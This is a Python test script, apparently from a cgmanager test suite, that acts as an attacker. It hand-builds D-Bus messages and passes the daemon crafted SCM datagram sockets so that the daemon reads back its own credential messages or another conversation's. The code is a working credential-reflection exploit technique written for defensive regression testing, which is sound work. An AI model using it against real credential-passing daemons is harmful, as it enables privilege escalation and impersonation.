#!/usr/bin/env python3
# An attacker for the reflected-credential tests: a real process (run as an unprivileged
# uid, or as root inside a container) that speaks peer-to-peer D-Bus by hand and passes
# cgmanager an Scm socket wired so that the daemon would read back its own datagrams.
# Python, not our client library, so the sockets can be bound, connected to themselves,
# and reconnected while the daemon holds them, which Node cannot do.
#
#   reflect-attacker.py SOCKET SCENARIO CALL [CALL]
#   CALL is JSON: {"method": "CreateScm", "signature": "ssh", "args": ["cpu", "x"]}
#   (the fd argument is appended). Prints one JSON line: the D-Bus replies and what the
#   attacker's own sockets received from the daemon.
import json
import os
import select
import socket
import struct
import sys

SO_PASSCRED = 16
SCM_CREDENTIALS = 2


def pad(buf, n):
    return buf + b"\0" * ((-len(buf)) % n)


def marshal(sig, args, offset=0):
    out = b"\0" * offset
    for code, value in zip(sig, args):
        if code in "sog":
            data = value.encode()
            if code == "g":
                out += struct.pack("<B", len(data)) + data + b"\0"
            else:
                out = pad(out, 4) + struct.pack("<I", len(data)) + data + b"\0"
        elif code == "i":
            out = pad(out, 4) + struct.pack("<i", value)
        elif code in "uh":
            out = pad(out, 4) + struct.pack("<I", value)
        else:
            raise ValueError(code)
    return out[offset:]


def header_field(code, sig, value):
    """One (yv) header field; its start is 8-aligned, so alignment inside it is relative to it."""
    return struct.pack("<BB", code, len(sig)) + sig.encode() + b"\0" + marshal_at(4, sig, [value])


def marshal_at(offset, sig, args):
    return marshal(sig, args, offset)


class Bus:
    def __init__(self, path):
        self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.sock.connect(path)
        self.serial = 0
        self.buf = b""
        self.sock.sendall(b"\0AUTH EXTERNAL " + str(os.getuid()).encode().hex().encode() + b"\r\n")
        self.line(b"OK")
        self.sock.sendall(b"NEGOTIATE_UNIX_FD\r\n")
        self.line(b"AGREE_UNIX_FD")
        self.sock.sendall(b"BEGIN\r\n")

    def line(self, want):
        while b"\r\n" not in self.buf:
            self.buf += self.sock.recv(4096)
        line, self.buf = self.buf.split(b"\r\n", 1)
        if not line.startswith(want):
            raise RuntimeError(f"SASL: {line!r}")

    def call(self, method, signature, args, fd):
        self.serial += 1
        body = marshal(signature, list(args) + [0])
        fields = b""
        for f in [
            header_field(1, "o", "/org/linuxcontainers/cgmanager"),
            header_field(2, "s", "org.linuxcontainers.cgmanager0_0"),
            header_field(3, "s", method),
            header_field(8, "g", signature),
            header_field(9, "u", 1),
        ]:
            fields = pad(fields, 8) + f
        head = struct.pack("<cBBBIII", b"l", 1, 0, 1, len(body), self.serial, len(fields)) + fields
        msg = pad(head, 8) + body
        self.sock.sendmsg([msg], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, struct.pack("i", fd))])
        return self.reply(self.serial)

    def reply(self, serial, timeout=5.0):
        while True:
            while len(self.buf) < 16:
                self.more(timeout)
            blen, _, flen = struct.unpack_from("<III", self.buf, 4)
            total = 16 + flen + ((-(16 + flen)) % 8) + blen
            while len(self.buf) < total:
                self.more(timeout)
            msg, self.buf = self.buf[:total], self.buf[total:]
            mtype = msg[1]
            fields = parse_fields(msg[16:16 + flen])
            if fields.get(5) != serial:
                continue
            if mtype == 2:
                return {"ok": True}
            return {"ok": False, "name": fields.get(4)}

    def more(self, timeout):
        r, _, _ = select.select([self.sock], [], [], timeout)
        if not r:
            raise RuntimeError("no reply from the daemon")
        data = self.sock.recv(65536)
        if not data:
            raise RuntimeError("the daemon closed the connection")
        self.buf += data


def parse_fields(raw):
    out = {}
    i = 0
    while i < len(raw):
        i += (-i) % 8
        if i >= len(raw):
            break
        code = raw[i]
        slen = raw[i + 1]
        sig = raw[i + 2:i + 2 + slen].decode()
        i += 3 + slen
        if sig in ("s", "o"):
            i += (-i) % 4
            (n,) = struct.unpack_from("<I", raw, i)
            out[code] = raw[i + 4:i + 4 + n].decode()
            i += 5 + n
        elif sig == "g":
            n = raw[i]
            out[code] = raw[i + 1:i + 1 + n].decode()
            i += 2 + n
        elif sig == "u":
            i += (-i) % 4
            (out[code],) = struct.unpack_from("<I", raw, i)
            i += 4
        else:
            break
    return out


def disconnect(s):
    """connect(2) with AF_UNSPEC: the datagram socket forgets its peer."""
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    addr = struct.pack("H", socket.AF_UNSPEC) + b"\0" * 14
    if libc.connect(s.fileno(), addr, len(addr)) != 0:
        raise OSError(ctypes.get_errno(), "connect(AF_UNSPEC)")


def dgram(name=None):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, SO_PASSCRED, 1)
    if name is not None:
        s.bind(name)
    return s


def drain(s, wait=0.3):
    """Datagrams s received: their bytes and the credentials the kernel attached."""
    got = []
    while select.select([s], [], [], wait)[0]:
        data, anc, _, _ = s.recvmsg(4096, 256)
        cred = None
        for level, kind, raw in anc:
            if level == socket.SOL_SOCKET and kind == SCM_CREDENTIALS:
                pid, uid, gid = struct.unpack("iII", raw[:12])
                cred = {"pid": pid, "uid": uid, "gid": gid}
        got.append({"data": data.decode("latin1"), "cred": cred})
        wait = 0.1
    return got


def main():
    path, scenario = sys.argv[1], sys.argv[2]
    calls = [json.loads(a) for a in sys.argv[3:]]
    bus = Bus(path)
    tag = f"\0cgmt-reflect-{os.getpid()}"
    out = {"scenario": scenario, "replies": [], "received": []}

    def call(c, fd):
        out["replies"].append(bus.call(c["method"], c["signature"], c["args"], fd))

    if scenario == "self":
        # A datagram socket connected to itself: the daemon's kick would come back to it.
        s = dgram(tag + "-s")
        s.connect(tag + "-s")
        call(calls[0], s.fileno())
        out["received"] = drain(s)
    elif scenario == "pair":
        # Both ends of one socketpair, one per call: the first conversation's writes land
        # in the second's socket.
        a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
        call(calls[0], a.fileno())
        call(calls[1 if len(calls) > 1 else 0], b.fileno())
        out["received"] = drain(b) + drain(a)
    elif scenario == "connection":
        # The D-Bus connection's own socket as the Scm fd.
        call(calls[0], bus.sock.fileno())
    elif scenario == "reconnect":
        # Two sockets that look harmless when they arrive (both talk to z, the attacker's),
        # then are connected to each other while the daemon holds them, so that whatever the
        # daemon writes on one lands in the other's conversation.
        z = dgram(tag + "-z")
        a = dgram(tag + "-a")
        b = dgram(tag + "-b")
        a.connect(tag + "-z")
        b.connect(tag + "-z")
        call(calls[0], a.fileno())  # needs a victim: a stays open after the requestor
        out["received"] += drain(z)
        z.sendto(b"p", tag + "-a")  # the attacker's genuine requestor credential
        out["received"] += drain(z)  # the second kick
        call(calls[1], b.fileno())
        out["received"] += drain(z)
        disconnect(b)  # a may connect to b only while b's peer is none or a
        a.connect(tag + "-b")
        b.connect(tag + "-a")
        b.send(b"p")  # lands in a's conversation as the victim, sent from b's address
        out["received"] += drain(z) + drain(a) + drain(b)
    else:
        raise SystemExit(f"unknown scenario {scenario}")
    print(json.dumps(out))


if __name__ == "__main__":
    main()
